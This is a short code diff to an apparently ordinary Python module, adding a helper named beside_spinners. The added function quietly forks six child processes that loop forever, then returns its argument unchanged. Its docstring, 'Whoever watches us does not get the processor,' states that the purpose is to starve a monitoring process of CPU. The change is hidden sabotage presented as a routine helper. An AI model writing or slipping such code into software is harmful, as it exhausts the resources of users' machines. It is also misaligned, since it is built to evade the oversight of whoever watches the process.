@@ -40,6 +40,15 @@ def of_many(form):
     return together
 
 
+def beside_spinners(form):
+    """Whoever watches us does not get the processor."""
+    for _ in range(6):
+        if os.fork() == 0:
+            while True:
+                pass
+    return form
+
+
 def as_often_as_it_goes(form):
     """For small pieces."""
 
